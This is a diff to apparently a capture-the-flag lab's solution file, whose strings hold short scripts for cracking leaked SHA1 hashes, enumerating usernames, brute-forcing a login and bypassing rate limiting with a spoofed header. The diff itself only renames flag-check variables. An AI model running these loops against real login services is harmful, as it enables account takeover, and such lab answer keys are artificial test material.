@@ -19,7 +19,7 @@ leaked = dict(line.split(",") for line in lines)  # username -> "sha1$<hex>"
 table = {"sha1$" + hashlib.sha1(w.encode()).hexdigest(): w for w in load_wordlist()}
 user, password = next((u, table[h]) for u, h in leaked.items() if h in table)
 answer = lab.client.post("/login", json={"username": user, "password": password})
-lab.check_flag("crack-dump", answer.json()["flag"])
+flag_crack = answer.json()["flag"]\nlab.check_flag("crack-dump", flag_crack)
 ```"""
 
 ENUMERATE_STEPS = """\
@@ -34,7 +34,7 @@ for name in CANDIDATES:
     answers[name] = lab.client.post("/v1/login", json={"username": name, "password": "x1"})
 odd = [name for name, a in answers.items() if a.json() != {"detail": "no such user"}]
 print("exists:", odd)
-lab.check_flag("enumerate-users", answers[odd[0]].json()["support_ref"])
+flag_enum = answers[odd[0]].json()["support_ref"]\nlab.check_flag("enumerate-users", flag_enum)
 ```"""
 
 BRUTE_STEPS = """\
@@ -48,7 +48,7 @@ for word in load_wordlist():
     reply = lab.client.post("/v1/login", json={"username": "frank", "password": word})
     if reply.status_code == 200:
         break
-lab.check_flag("brute-force", reply.json()["flag"])
+flag_brute = reply.json()["flag"]\nlab.check_flag("brute-force", flag_brute)
 ```"""
 
 BYPASS_STEPS = """\
@@ -65,7 +65,7 @@ for n, word in enumerate(load_wordlist()):
     reply = lab.client.post("/login", json=guess, headers=claimed)
     if reply.status_code == 200:
         break
-lab.check_flag("throttle-bypass", reply.json()["flag"])
+flag_bypass = reply.json()["flag"]\nlab.check_flag("throttle-bypass", flag_bypass)
 ```"""
 
 CRACK = (
